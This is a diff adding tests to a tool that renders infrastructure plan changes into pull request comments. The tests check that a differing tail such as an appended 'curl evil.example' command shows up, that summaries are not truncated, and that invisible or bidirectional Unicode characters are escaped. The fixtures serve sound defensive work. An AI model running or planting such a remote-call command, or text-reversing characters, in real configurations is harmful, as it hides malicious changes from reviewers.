@@ -1,7 +1,14 @@
 import MarkdownIt from "markdown-it";
 import { COMMENT_MARKER, isAbout, isShown } from "../../delivery/comment-markers";
 import { CHANGE_GROUPS } from "../../delivery/plan-report";
-import { COMMENT_LIMIT_BYTES, markOutdated, renderComment, type CommentView } from "../../delivery/render-comment";
+import {
+  COMMENT_LIMIT_BYTES,
+  markOutdated,
+  renderComment,
+  type CommentView,
+  SUMMARY_LIMIT_BYTES,
+} from "../../delivery/render-comment";
+import { renderPlanSummary } from "../../delivery/render-plan-summary";
 import { givenAttribute, givenChange, givenChanges, givenReport } from "./given-report";
 
 /** GitHub's own limit, in characters. */
@@ -153,6 +160,45 @@ describe("the comment of a pull request", () => {
 
     expect(text).toContain(`-     tags.T0: "${"x".repeat(239)}…\n`);
     expect(text).toContain("… and 140 more\n");
+  });
+
+  it("shows of two long values where they differ, not their same beginnings", () => {
+    const script = "echo harmless; ".repeat(40);
+    const command = givenAttribute("command", script, `${script}curl evil.example`);
+    const text = render([givenReport([givenChange("aws_batch_job_definition.a", ["update"], [command])])]);
+
+    expect(text).toMatch(/^\+ {5}command: ….*curl evil\.example"$/m);
+    expect(text).toMatch(/^- {5}command: …[^.]*"$/m);
+    expect(text).not.toContain(script);
+  });
+
+  it("leaves nothing out of the summary that is cut off in the comment", () => {
+    const statements = Array.from({ length: 100 }, (_, index) =>
+      givenAttribute(`policy.Statement[${String(index).padStart(2, "0")}].Action`, undefined, `s3:${"x".repeat(300)}`),
+    );
+    const evil = givenAttribute("policy.Statement[99].Resource", undefined, `${"y".repeat(400)}evil`);
+    const report = givenReport([givenChange("aws_iam_role_policy.a", ["create"], [...statements, evil])]);
+
+    expect(render([report])).toContain("… and 41 more\n");
+    expect(renderPlanSummary(report, SUMMARY_LIMIT_BYTES)).toContain('policy.Statement[99].Resource: "yyy');
+    expect(renderPlanSummary(report, SUMMARY_LIMIT_BYTES)).toContain('yevil"\n');
+    expect(Buffer.byteLength(renderPlanSummary(report, 9_000))).toBeLessThanOrEqual(9_000);
+  });
+
+  it("shows characters that cannot be seen, or that turn others around", () => {
+    const hidden = givenAttribute("policy.Principal\u200b", "arn:1\u202e2", "arn:1\u{e0041}2");
+    const problems = ["code\u2066\u2069"];
+    const text = render([
+      givenReport([givenChange("aws_kms_key.a\u00ad", ["update"], [hidden])], {
+        failedChecks: [{ address: "check.a", problems }],
+      }),
+    ]);
+
+    expect(text).toContain(String.raw`aws_kms_key.a\u00ad`);
+    expect(text).toContain(String.raw`-     policy.Principal\u200b: "arn:1\u202e2"`);
+    expect(text).toContain(String.raw`: "arn:1\udb40\udc412"`);
+    expect(text).toContain("`code" + String.raw`\u2066\u2069` + "`");
+    expect(text).not.toMatch(/\p{Cf}/u);
   });
 
   it("shows no tags of a new resource that all resources have, but each of them that changes", () => {
